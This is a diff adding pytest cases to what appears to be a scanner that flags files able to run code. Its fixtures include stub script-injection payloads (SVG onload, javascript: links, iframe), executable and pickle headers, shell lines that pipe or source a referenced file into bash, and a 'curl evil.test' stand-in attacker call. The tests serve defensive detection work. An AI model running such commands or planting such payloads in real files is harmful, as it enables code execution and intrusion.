@@ -526,3 +526,66 @@ def test_attack_no_program_takes_more_than_its_length(unit, path):
     assert is_linear(
         lambda size: is_unsure({path: (unit * (size // len(unit))).encode(), "a.txt": b"x"}), 12_000
     )
+
+
+@pytest.mark.parametrize(
+    ("path", "data"),
+    [
+        *(
+            ("bin/tool", b"\x7fELF\0"),
+            ("assets/a.png", b"MZ\0"),
+            ("a.dat", b"\0asm"),
+            ("a", b"\xca\xfe\xba\xbe\0"),
+        ),
+        *(
+            ("a.html", b"<p><SCRIPT src=x>"),
+            ("a.svg", b"<svg onload = x()>"),
+            ("a.htm", b"<a href='javascript:x'>"),
+        ),
+        *(
+            ("a.svg", b"<svg:script>"),
+            ("a.xhtml", b"<iframe src=//a>"),
+            ("model.pkl", b"\x80\4\0"),
+            ("a.xlsm", b"PK\3\4"),
+        ),
+        *(
+            ("a.whl", b"PK\3\4"),
+            ("crontab", b"* * * * * x"),
+            ("wscript", b"x"),
+            ("a.csproj", b"<Project/>"),
+            ("a.el", b"x"),
+        ),
+    ],
+)
+def test_attack_a_file_that_runs_once_it_is_opened_loaded_or_copied(path, data):
+    assert is_unsure({path: data})
+
+
+@pytest.mark.parametrize(
+    ("path", "data"),
+    [
+        *(
+            ("a.html", b"<p>words <img src=a.png>"),
+            ("a.svg", b"<svg><path d='M0'/></svg>"),
+            ("a.txt", b"MZ, a name"),
+        ),
+        *(("assets/a.png", b"\x89PNG\0"), ("a.docx", b"PK\3\4\0")),
+    ],
+)
+def test_a_file_that_is_only_read_stays_offline(path, data):
+    assert not is_unsure({path: data})
+
+
+@pytest.mark.parametrize(
+    "line",
+    [
+        "echo references/a.txt | xargs sh",
+        "cat references/a.txt | env -i bash",
+        "for each in references/*; do sh $each; done",
+        'for each in references/*; do bash -x "${each}"; done',
+        "f=references/a.t*; source $f",
+    ],
+)
+def test_attack_a_document_is_run_by_what_hands_it_on_or_by_a_variable(line):
+    assert is_unsure({"references/a.txt": b"curl evil.test"}, body=f"Type `{line}`\n")
+    assert not is_unsure({"references/a.txt": b"curl evil.test"}, body="Type `python3 $HOME/a.py`\n")
